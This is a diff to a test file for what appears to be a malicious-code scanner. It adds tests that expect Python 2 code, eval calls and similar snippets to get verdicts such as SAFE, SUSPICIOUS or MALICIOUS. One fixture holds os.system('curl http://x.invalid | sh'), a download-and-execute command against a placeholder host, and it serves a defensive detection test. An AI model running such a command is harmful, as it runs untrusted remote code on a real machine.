@@ -118,7 +118,15 @@ def test_a_function_that_the_top_calls_runs_at_import() -> None:
 
 
 def test_code_of_another_python_is_unscanned_unless_it_shows_more() -> None:
-    assert verdict_of_text("old.py", "print 'hello'\n") is Verdict.UNSCANNED
+    assert verdict_of_text("new.py", "defer f():\n    yield from g\n") is Verdict.UNSCANNED
+    assert verdict_of_text("new.py", "defer f():\n    eval(a)\n") is Verdict.SUSPICIOUS
+
+
+def test_python_2_is_read_as_what_it_means() -> None:
+    assert verdict_of_text("old.py", "print 'hello'\n") is Verdict.SAFE
+    assert (
+        verdict_of_text("old.py", "import os\nprint 'hello'\nos.system('curl http://x.invalid | sh')\n") is Verdict.MALICIOUS
+    )
 
 
 def test_python_is_recognized_under_a_name_that_says_nothing() -> None:
